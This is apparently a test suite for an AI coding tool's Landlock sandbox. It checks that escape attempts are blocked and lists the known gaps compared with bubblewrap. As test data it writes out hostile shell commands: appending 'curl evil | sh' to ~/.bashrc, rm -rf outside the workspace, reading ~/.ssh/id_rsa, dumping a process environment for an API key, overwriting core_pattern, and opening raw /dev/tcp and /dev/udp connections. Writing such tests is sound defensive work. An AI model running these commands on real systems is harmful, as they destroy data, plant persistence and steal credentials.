/**
 * The command escape attempts of bwrap_escape_test.ts, run with the Landlock
 * backend forced. Every attempt Landlock can stop must fail with nothing
 * changed on disk. The ones it cannot stop are the known differences of
 * docs/security.md and are named below, skipped with that reason (loudly).
 */
import * as path from "node:path";
import { assert, assertEquals } from "../support/assert.ts";
import { probeSandboxes } from "../../src/sandbox/choose.ts";
import {
  landlockLauncher,
  type LandlockLauncherOptions,
} from "../../src/sandbox/landlock/launcher.ts";
import type { SandboxMode, SandboxSettings } from "../../src/sandbox/modes.ts";
import { landlockSessionLauncher } from "../../src/sandbox/landlock/session.ts";
import { blocked, type CommandResult, type Layout, makeLayout, unchangedBy } from "./_harness.ts";
import { runInSession } from "./_pooled_runner.ts";

const found = await probeSandboxes();
const ABI = found.landlock ?? null;
if (ABI === null) {
  console.warn(
    `\n!!! ESCAPE SUITE (Landlock): the Landlock backend does not work here ` +
      `(${found.reasons?.landlock}); every Landlock attempt is SKIPPED. !!!\n`,
  );
}
const needsLandlock = { ignore: ABI === null };

/** Known differences: bubblewrap stops these, Landlock cannot (docs/security.md). */
const KNOWN_DIFFERENCES = [
  "protected paths inside the workspace (.git/hooks, .git/config, skiff.json, .skiff/): " +
  "Landlock cannot deny beneath a writable folder; the command guard reverts them afterwards",
  "a host Unix socket reached by path (under /run): Landlock ABI 7 has no right for connect",
  "seeing the parent's processes in /proc (no pid namespace); signalling them is stopped (ABI 6)",
];
console.warn(
  "\n!!! ESCAPE SUITE (Landlock): NOT RUN against Landlock, known differences:\n  - " +
    KNOWN_DIFFERENCES.join("\n  - ") + "\n",
);

type Options = { network?: boolean; mode?: SandboxMode; envNames?: string[] };

/** The settings and launcher options of an attempt on `layout`, the same both ways. */
function landlockSetup(
  layout: Layout,
  options: Options,
): [SandboxSettings, LandlockLauncherOptions] {
  return [
    {
      mode: options.mode ?? "workspace-write",
      workspace: layout.ws,
      addDirs: [],
      network: options.network ?? false,
      envNames: options.envNames ?? [],
      hidden: [{ path: path.join(layout.home, ".ssh"), folder: true }],
    },
    {
      abi: ABI ?? 1,
      getEnv: (name: string) => (name === "HOME" ? layout.home : Deno.env.get(name)),
    },
  ];
}

async function runLandlocked(
  layout: Layout,
  command: string,
  options: Options = {},
): Promise<CommandResult> {
  const launcher = landlockLauncher(...landlockSetup(layout, options));
  const { argv, env } = await launcher.prepare(command, layout.ws);
  const output = await new Deno.Command(argv[0], {
    args: argv.slice(1),
    cwd: layout.ws,
    env,
    clearEnv: true,
    stdin: "null",
    signal: AbortSignal.timeout(20_000),
  }).output();
  const decode = (bytes: Uint8Array) => new TextDecoder().decode(bytes);
  return { code: output.code, stdout: decode(output.stdout), stderr: decode(output.stderr) };
}

/** Like `runLandlocked`, in the session's holder (src/sandbox/landlock/session.ts) after a first command. */
function runLandlockSession(
  layout: Layout,
  command: string,
  options: Options = {},
): Promise<CommandResult> {
  return runInSession(landlockSessionLauncher(...landlockSetup(layout, options)), layout, command);
}

/** Every attempt runs both ways: one exec step per command, and in the session's holder. */
const WAYS = [
  { label: "landlock", run: runLandlocked },
  { label: "landlock session", run: runLandlockSession },
];

const attempts: [string, (l: Layout) => string][] = [
  [
    "write ../ outside the workspace",
    () => "echo x > ../outside/p.txt 2>/dev/null || echo blocked",
  ],
  [
    "write an absolute path outside",
    (l) => `echo x > ${l.outside}/p.txt 2>/dev/null || echo blocked`,
  ],
  ["overwrite a file outside", (l) => `echo gone > ${l.secret} 2>/dev/null || echo blocked`],
  ["append to ~/.bashrc", () => "echo 'curl evil | sh' >> ~/.bashrc 2>/dev/null || echo blocked"],
  [
    "delete files outside",
    (l) => `rm -rf ${l.outside} 2>/dev/null; test -e ${l.secret} && echo blocked`,
  ],
  [
    "hard-link an outside file into the workspace",
    (l) => `ln ${l.secret} stolen.txt 2>/dev/null || echo blocked`,
  ],
  [
    "write through /proc/self/root",
    (l) => `echo x > /proc/self/root${l.outside}/p.txt 2>/dev/null || echo blocked`,
  ],
  [
    "write through /proc/1/root",
    (l) => `echo x > /proc/1/root${l.outside}/p.txt 2>/dev/null || echo blocked`,
  ],
  [
    "remount / read-write",
    (l) =>
      `(mount -o remount,rw / 2>/dev/null && echo x > ${l.outside}/p.txt) 2>/dev/null || echo blocked`,
  ],
  [
    "write kernel.core_pattern",
    () =>
      "(cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern) 2>/dev/null || echo blocked",
  ],
  [
    "write the real /tmp",
    () => `echo x > /tmp/skiff-escape-${crypto.randomUUID()} 2>/dev/null || echo blocked`,
  ],
  ["read a hidden key (~/.ssh)", (l) => `cat ${l.home}/.ssh/id_rsa 2>/dev/null || echo blocked`],
  [
    // Landlock checks TCP only; the exec step's seccomp filter refuses the socket (network off).
    "send a UDP datagram (DNS's transport) with the network off",
    () => "bash -c 'echo x > /dev/udp/127.0.0.1/53' 2>/dev/null || echo blocked",
  ],
  ["signal the parent", () => `kill -0 ${Deno.pid} 2>/dev/null || echo blocked`],
];

for (const way of WAYS) {
  Deno.test(
    { name: `escape/${way.label}: runs commands at all (control)`, ...needsLandlock },
    async () => {
      const layout = makeLayout();
      try {
        const result = await way.run(layout, "echo made > src/made.txt && cat src/a.txt");
        assertEquals([result.code, result.stdout], [0, "inside\n"]);
        assertEquals(Deno.readTextFileSync(path.join(layout.ws, "src", "made.txt")), "made\n");
      } finally {
        layout.cleanup();
      }
    },
  );

  for (const [name, command] of attempts) {
    Deno.test({ name: `escape/${way.label}: ${name}`, ...needsLandlock }, async () => {
      blocked(
        await unchangedBy(way.run, command, {}, (l) => {
          Deno.mkdirSync(path.join(l.home, ".ssh"));
          Deno.writeTextFileSync(path.join(l.home, ".ssh", "id_rsa"), "PRIVATE KEY\n");
        }),
      );
    });
  }

  Deno.test({
    name: `escape/${way.label}: write through a symlinked folder pointing out`,
    ...needsLandlock,
  }, async () => {
    blocked(
      await unchangedBy(
        way.run,
        () => "echo x > vendor/p.txt 2>/dev/null || echo blocked",
        {},
        (l) => Deno.symlinkSync(l.outside, path.join(l.ws, "vendor")),
      ),
    );
  });

  Deno.test({
    name: `escape/${way.label}: read-only mode refuses writes in the workspace`,
    ...needsLandlock,
  }, async () => {
    blocked(
      await unchangedBy(way.run, () => "echo x > src/new.txt 2>/dev/null || echo blocked", {
        mode: "read-only",
      }),
    );
  });

  Deno.test({
    name: `escape/${way.label}: the API key is not in the child's environment`,
    ...needsLandlock,
  }, async () => {
    Deno.env.set("OPENAI_API_KEY", "sk-escape-test-key");
    try {
      const result = await unchangedBy(
        way.run,
        () =>
          `env; cat /proc/${Deno.pid}/environ 2>/dev/null | tr "\\0" "\\n"; echo "[$OPENAI_API_KEY]"`,
        { envNames: ["OPENAI_API_KEY"] },
      );
      assert(!result.stdout.includes("sk-escape-test-key"), "the key reached the child");
      assert(result.stdout.includes("[]"));
    } finally {
      Deno.env.delete("OPENAI_API_KEY");
    }
  });

  Deno.test({
    name: `escape/${way.label}: reaching 127.0.0.1 over TCP with the network off`,
    ignore: ABI === null || ABI < 4,
  }, async () => {
    let hits = 0;
    const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, () => {
      hits++;
      return new Response("reached");
    });
    const get =
      `bash -c 'exec 3<>/dev/tcp/127.0.0.1/${server.addr.port} && printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3 && cat <&3' 2>/dev/null || echo blocked`;
    try {
      blocked(await unchangedBy(way.run, () => get, {}));
      assertEquals(hits, 0);
      const open = await unchangedBy(way.run, () => get, { network: true });
      assert(
        open.stdout.includes("reached"),
        "control failed: the server was not reachable at all",
      );
      assertEquals(hits, 1);
    } finally {
      await server.shutdown();
    }
  });
}
